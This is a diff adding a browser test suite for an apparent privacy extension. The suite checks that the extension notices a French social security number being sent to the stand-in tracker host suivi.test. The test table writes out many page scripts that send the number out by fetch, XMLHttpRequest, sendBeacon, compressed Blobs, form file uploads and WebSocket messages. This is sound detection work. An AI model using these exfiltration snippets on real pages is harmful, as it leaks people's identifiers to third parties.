@@ -1,0 +1,131 @@
+/** What browsers show to no extension, or in part: the page's own code tells it, and the servers' log agrees. */
+import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest';
+import type {Channel, Report} from '../../src/core/model.ts';
+import {type Browser, openBrowser} from '../rig/browser.ts';
+import type {Page} from '../rig/page.ts';
+import type {Servers} from '../rig/servers.ts';
+import {browsers, extensionOf, NIR, startSite} from './site.ts';
+import {expectValid} from './valid.ts';
+
+const to = 'https://suivi.test/c';
+const post = (body: string): string => `fetch('${to}', {method: 'POST', body: ${body}})`;
+const blob = `new Blob(['nir=${NIR}'])`;
+const formWith = (file: string): string =>
+  `(() => { const data = new FormData(); data.append('a', '1'); data.append('piece', ${file}); return data; })()`;
+const file = `new File(['nom;nir\\nDurand;${NIR}\\n'], 'liste.csv', {type: 'text/csv'})`;
+const socket = (address: string, act: string): string =>
+  `new Promise((done) => { const s = new WebSocket('${address}'); s.onopen = () => { ${act}; }; s.onmessage = () => done(1); })`;
+const live = 'wss://suivi.test/direct';
+
+const hidden: readonly (readonly [what: string, act: string, channel: Channel])[] = [
+  ['a Blob', post(blob), 'fetch'],
+  [
+    'a Blob by XMLHttpRequest',
+    `new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', '${to}'); x.onloadend = () => done(1); x.send(${blob}); })`,
+    'fetch',
+  ],
+  ['a File', post(file), 'fetch'],
+  ['a file in a form', post(formWith(file)), 'fetch'],
+  [
+    'a JSON file in a form',
+    post(formWith(`new File(['{"nir":"${NIR}"}'], 'dossier.json', {type: 'application/json'})`)),
+    'fetch',
+  ],
+  ['a Request', `fetch(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}))`, 'fetch'],
+  [
+    'the clone of a Request',
+    `fetch(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}).clone())`,
+    'fetch',
+  ],
+  [
+    'a Request that was cloned',
+    `(() => { const r = new Request('${to}', {method: 'POST', body: 'nir=${NIR}'}); r.clone(); return fetch(r); })()`,
+    'fetch',
+  ],
+  [
+    'a Request made of another',
+    `fetch(new Request(new Request('${to}', {method: 'POST', body: 'nir=${NIR}'})))`,
+    'fetch',
+  ],
+  ['a Blob as a beacon', `navigator.sendBeacon('${to}', ${blob})`, 'beacon'],
+  ['a form with a file as a beacon', `navigator.sendBeacon('${to}', ${formWith(file)})`, 'beacon'],
+  [
+    'a compressed Blob',
+    `new Response(new Blob(['nir=${NIR}']).stream().pipeThrough(new CompressionStream('gzip'))).blob().then((b) => ${post('b')})`,
+    'fetch',
+  ],
+  ['a message of a web socket', socket(live, `s.send('{"nir":"${NIR}"}')`), 'websocket'],
+  ['a message of bytes', socket(live, `s.send(new TextEncoder().encode('nir=${NIR}'))`), 'websocket'],
+  ['a message that is a Blob', socket(live, `s.send(${blob})`), 'websocket'],
+];
+
+describe.each(browsers)('in %s', (name) => {
+  let servers: Servers;
+  let browser: Browser;
+  let page: Page;
+
+  beforeAll(async () => {
+    servers = await startSite({'/vide': '<p>Rien</p>'});
+    browser = await openBrowser(name, {extensionDir: extensionOf(name), servers, language: 'fr'});
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await servers?.close();
+  });
+  afterEach(() => page.close());
+
+  const told = (report: Report) =>
+    report.findings.filter(({rule, category}) => rule === 'third-party' && category === 'nir');
+
+  it.each(hidden)('tells of %s', async (_, act, channel) => {
+    page = await browser.page('https://portail.test/vide');
+    servers.log.clear();
+    await page.evaluate(`() => { void ${act}; }`);
+    await servers.log.arrived(
+      ({host, method, kind, complete}) =>
+        host === 'suivi.test' &&
+        method !== 'OPTIONS' &&
+        complete &&
+        (kind === 'websocket-message') === (channel === 'websocket'),
+    );
+    const report = await browser.reportWhen(page, 'the send', (one) =>
+      told(one).some(({status}) => status === 'observed'),
+    );
+    expect(told(report)).toMatchObject([
+      {status: 'observed', channels: [channel], count: 1, destination: 'suivi.test'},
+    ]);
+    expect(report.traffic.unreadable).toBe(0);
+    expectValid(report);
+    expect(JSON.stringify(report)).not.toContain(NIR);
+  });
+
+  it.each([
+    [
+      'a socket that is not open yet',
+      `() => { const s = new WebSocket('${live}'); try { s.send('nir=${NIR}'); } catch {} }`,
+    ],
+    [
+      'a socket that is closed',
+      `() => new Promise((done) => { const s = new WebSocket('${live}'); s.onopen = () => s.close(); s.onclose = () => { s.send('nir=${NIR}'); done(1); }; })`,
+    ],
+  ])('says nothing of %s', async (_, act) => {
+    page = await browser.page('https://portail.test/vide');
+    servers.log.clear();
+    await page.evaluate(act);
+    await servers.log.arrived(({kind}) => kind === 'websocket');
+    await page.evaluate(`() => ${post(`'q=1'`)}.then(() => 1)`);
+    const report = await browser.reportWhen(page, 'a later request', ({traffic}) => traffic.thirdParty > 0);
+    expect(report.findings).toEqual([]);
+    expect(servers.log.all.some(({body}) => body.includes(NIR))).toBe(false);
+  });
+
+  it('tells in clear what a web socket sends in clear', async () => {
+    page = await browser.page('http://portail.test/vide');
+    await page.evaluate(`() => { void ${socket('ws://portail.test/direct', `s.send('nir=${NIR}')`)}; }`);
+    const report = await browser.reportWhen(page, 'the message', ({findings}) => findings.length > 0);
+    expect(report.findings).toMatchObject([
+      {rule: 'plain-http', severity: 'critical', channels: ['websocket']},
+    ]);
+    expect(report.findings[0]?.evidence).toMatchObject([{seenBy: 'page-hook', where: 'body', name: 'nir'}]);
+  });
+});
